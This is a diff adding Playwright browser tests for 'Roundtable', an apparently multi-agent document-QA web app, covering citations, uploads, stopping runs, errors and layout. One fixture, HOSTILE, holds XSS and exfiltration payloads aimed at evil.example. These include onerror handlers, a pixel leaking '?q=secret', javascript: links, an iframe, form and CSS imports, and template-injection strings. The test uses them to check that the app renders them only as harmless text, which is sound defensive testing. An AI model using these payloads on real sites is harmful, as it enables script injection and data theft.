@@ -1,0 +1,271 @@
+"""The page in a real browser; every test also demands no console error, no dialog and no request elsewhere."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Iterable, Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Locator, Page, expect
+
+from agents.events import Event, Failed, RunStarted
+from configs.errors import AppError
+from tests.ui.web.conftest import served
+from tests.ui.web.scripted import ANSWER, ScriptedBackend, answering, discussion
+from tests.ui.web.waiting import until
+
+HOSTILE = """
+<script>alert(1)</script> <img src="http://evil.example/a.png" onerror="alert(2)">
+![pixel](http://evil.example/b.png?q=secret) [link](javascript:alert(3)) [out](http://evil.example/c)
+<form action="http://evil.example/d"><button>go</button></form> <style>@import url(http://evil.example/e.css);</style>
+<iframe src="http://evil.example/f"></iframe> <svg onload="alert(4)"></svg>
+{{constructor.constructor('alert(5)')()}} ${alert(6)} <details open ontoggle="alert(7)"></details>
+
+```html
+</code></pre><img src="http://evil.example/h.png" onerror="alert(8)">
+```
+END
+"""
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ScriptedBackend, str]]:
+    backend = ScriptedBackend(discussion)
+    with served(backend, tmp_path_factory.mktemp("home")) as url:
+        yield backend, url
+
+
+@pytest.fixture
+def backend(server: tuple[ScriptedBackend, str]) -> ScriptedBackend:
+    backend = server[0]
+    backend.__init__(discussion)  # type: ignore[misc]  # the same application, as new
+    return backend
+
+
+@pytest.fixture
+def page(browser: Browser, backend: ScriptedBackend, server: tuple[ScriptedBackend, str]) -> Iterator[Page]:
+    """An opened page; afterwards nothing may have gone wrong in the browser."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+    page = context.new_page()
+    wrong: list[str] = []
+    page.on("console", lambda message: wrong.append(message.text) if message.type == "error" else None)
+    page.on("pageerror", lambda error: wrong.append(str(error)))
+    page.on("dialog", lambda dialog: wrong.append(f"dialog {dialog.message}"))
+    local = (server[1], "data:", "blob:")
+    page.on("request", lambda request: None if request.url.startswith(local) else wrong.append(request.url))
+    page.goto(server[1])
+    yield page
+    context.close()
+    assert wrong == []
+
+
+def ask(page: Page, question: str = "How much is a hotel?") -> None:
+    page.get_by_role("textbox", name="Your question").fill(question)
+    page.get_by_role("button", name="Ask", exact=True).click()
+
+
+def ended(page: Page, words: str = "Done.") -> None:
+    expect(page.locator("#table").get_by_role("status")).to_have_text(words, timeout=10_000)
+
+
+def log(page: Page) -> Locator:
+    return page.get_by_role("log")
+
+
+def test_the_page_is_ready_to_use(page: Page) -> None:
+    expect(page.get_by_role("heading", name="Roundtable", level=1)).to_be_visible()
+    expect(page.get_by_role("cell", name="handbook.pdf")).to_be_visible()
+    expect(page.get_by_label("Knowledge base")).to_have_value("handbook")
+    expect(page.get_by_role("row", name="handbook.pdf")).to_contain_text("40")
+
+
+def test_agents_speak_in_order_and_the_text_grows(page: Page, backend: ScriptedBackend) -> None:
+    backend.pause_s = 0.03
+    ask(page)
+    expect(page.locator(".message .prose").first).to_be_visible()
+    lengths = []
+    while page.get_by_role("button", name="Stop").is_visible():
+        lengths.append(len(log(page).inner_text()))
+        time.sleep(0.05)
+    assert len(set(lengths)) >= 5
+    assert lengths == sorted(lengths)
+    assert log(page).locator(".agent").all_inner_texts() == [
+        "retriever",
+        "assistant",
+        "code_executor",
+        "assistant",
+        "critic",
+    ]
+    expect(log(page).locator(".answer")).to_contain_text("For three nights: 360 euros.")
+
+
+def test_a_citation_opens_its_passage_and_gives_the_focus_back(page: Page) -> None:
+    ask(page)
+    ended(page)
+    citation = page.locator(".answer .prose .cite").first
+    citation.focus()
+    page.keyboard.press("Enter")
+    passage = page.get_by_role("region", name=re.compile("handbook.pdf"))
+    expect(passage.locator("mark")).to_have_text("paid up to 120 euros a night")
+    expect(passage).to_contain_text("page 3")
+    expect(passage).to_contain_text("Handbook › Travel")
+    expect(passage.get_by_role("heading")).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(passage).to_be_hidden()
+    expect(citation).to_be_focused()
+
+
+def test_a_listed_source_opens_too_and_can_be_closed(page: Page) -> None:
+    ask(page)
+    ended(page)
+    page.locator(".sources").get_by_role("button", name=re.compile("差旅费.xlsx")).click()
+    passage = page.get_by_role("region", name=re.compile("差旅费.xlsx"))
+    expect(passage.locator("table mark")).to_have_text(["上海 ", " 140"])
+    passage.get_by_role("button", name="Close the passage").click()
+    expect(passage).to_be_hidden()
+
+
+def test_stop_ends_the_run_and_keeps_what_was_said(page: Page, backend: ScriptedBackend) -> None:
+    backend.script, backend.pause_s = answering(ANSWER * 40), 0.02
+    ask(page)
+    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
+    started = time.monotonic()
+    page.get_by_role("button", name="Stop").click()
+    ended(page, "Stopped.")
+    assert time.monotonic() - started < 2
+    expect(log(page)).to_contain_text("You stopped the run.")
+    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
+    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
+
+
+def test_every_uploaded_file_has_its_outcome(page: Page, tmp_path: Path) -> None:
+    files = {"good.md": "fine", "坏.pdf": "corrupt", "tool.exe": "MZ", "empty.txt": ""}
+    for name, text in files.items():
+        (tmp_path / name).write_text(text)
+    page.locator("input[type=file]").set_input_files([tmp_path / name for name in files])
+    uploads = page.locator(".uploads")
+    expect(uploads).to_contain_text("4 of 4 done")
+    for name, outcome in {
+        "good.md": "added",
+        "坏.pdf": "The document is corrupt.",
+        "tool.exe": "Files ending in .exe cannot be read.",
+        "empty.txt": "is empty",
+    }.items():
+        expect(uploads.get_by_role("listitem").filter(has_text=name).first).to_contain_text(outcome)
+    expect(page.get_by_role("cell", name="good.md")).to_be_visible()
+
+
+def test_an_upload_can_be_cancelled(page: Page, backend: ScriptedBackend, tmp_path: Path) -> None:
+    backend.pause_s = 60
+    (tmp_path / "a.md").write_text("a")
+    page.locator("input[type=file]").set_input_files([tmp_path / "a.md"])
+    page.get_by_role("button", name="Cancel").click()
+    expect(page.locator(".uploads")).to_contain_text("cancelled")
+
+
+def test_hostile_text_is_only_text(page: Page, backend: ScriptedBackend) -> None:
+    backend.script = answering(HOSTILE)
+    ask(page, HOSTILE)
+    ended(page)
+    expect(log(page).locator(".answer")).to_contain_text("END")
+    assert log(page).locator("img, script, style, form, iframe, svg, a, [onerror], [src], [href]").count() == 0
+    page.wait_for_timeout(200)
+
+
+def test_a_question_asked_too_early_waits(page: Page, backend: ScriptedBackend) -> None:
+    backend.ready.clear()
+    page.reload()
+    expect(page.locator("#ready")).to_contain_text("Getting ready…")
+    ask(page)
+    expect(log(page)).to_contain_text("How much is a hotel?")
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    backend.ready.set()
+    ended(page)
+    expect(page.locator("#ready")).to_be_hidden()
+
+
+def test_an_application_that_cannot_start_says_why(page: Page, backend: ScriptedBackend) -> None:
+    backend.ready.clear()
+    backend.broken = AppError("Another process uses the data directory.", hint="Close it first.")
+    page.reload()
+    expect(page.locator("#ready").get_by_role("alert")).to_contain_text("Close it first.")
+
+
+def failing(question: str) -> Iterable[Event]:
+    yield RunStarted(question=question, team="qa", kb="handbook", strategy="hybrid")
+    yield Failed(error_type="ModelUnreachable", message="The model does not answer.", hint="Start its server.")
+
+
+def test_a_failure_is_a_notice_and_not_an_answer(page: Page, backend: ScriptedBackend) -> None:
+    backend.script = failing
+    ask(page)
+    ended(page, "Ended without an answer.")
+    notice = log(page).get_by_role("alert")
+    expect(notice).to_contain_text("The model does not answer.")
+    expect(notice).to_contain_text("Start its server.")
+    expect(log(page).locator(".message")).to_have_count(0)
+
+
+def test_another_knowledge_base_begins_a_new_conversation(page: Page, backend: ScriptedBackend) -> None:
+    backend.script, backend.pause_s = answering(ANSWER * 40), 0.02
+    ask(page)
+    expect(log(page).locator(".message")).to_contain_text("Hotels are paid")
+    page.get_by_label("Knowledge base").click()
+    page.get_by_role("option", name="员工手册").click()
+    expect(log(page)).to_contain_text("Ask your documents")
+    expect(page.locator("#library")).to_contain_text("No documents yet.")
+    page.wait_for_timeout(400)
+    expect(log(page).locator(".message")).to_have_count(0)
+    backend.script, backend.pause_s = discussion, 0.0
+    ask(page, "住宿标准是多少？")
+    ended(page)
+    expect(log(page).locator(".question")).to_have_text("住宿标准是多少？")
+
+
+def test_the_next_question_can_be_typed_while_the_last_is_answered(page: Page, backend: ScriptedBackend) -> None:
+    backend.pause_s = 0.02
+    ask(page)
+    expect(log(page).locator(".message").first).to_be_visible()
+    box = page.get_by_role("textbox", name="Your question")
+    box.fill("And taxis?")
+    ended(page)
+    expect(box).to_have_value("And taxis?")
+    box.press("Enter")
+    expect(log(page).locator(".question")).to_have_text(["How much is a hotel?", "And taxis?"])
+
+
+def test_a_closed_tab_does_not_end_the_run(page: Page, backend: ScriptedBackend) -> None:
+    reached: list[str] = []
+
+    def script(question: str) -> Iterable[Event]:
+        yield from discussion(question)[:-1]
+        reached.append(question)
+        yield discussion(question)[-1]
+
+    backend.script, backend.pause_s = script, 0.02
+    ask(page)
+    expect(log(page).locator(".message").first).to_be_visible()
+    page.close()
+    until(lambda: reached == ["How much is a hotel?"])
+
+
+def test_the_browser_keeps_nothing_of_the_conversation(page: Page) -> None:
+    ask(page, "a-very-private-question")
+    ended(page)
+    stored = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
+    assert "private" not in stored
+    assert "Hotels" not in stored
+
+
+@pytest.mark.parametrize("width", [390, 900, 1280])
+def test_nothing_is_wider_than_the_screen(page: Page, backend: ScriptedBackend, width: int) -> None:
+    wide = f"| {' | '.join(['a wide column'] * 12)} |\n|{'---|' * 12}\n\n```\n{'x' * 300}\n```\n{'w' * 300}"
+    backend.script = lambda question: [*discussion(question), *answering(wide)(question)]
+    page.set_viewport_size({"width": width, "height": 844})
+    ask(page, "长" * 300)
+    ended(page)
+    page.locator(".answer .cite").first.click()
+    expect(page.locator(".passage")).to_be_in_viewport()
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
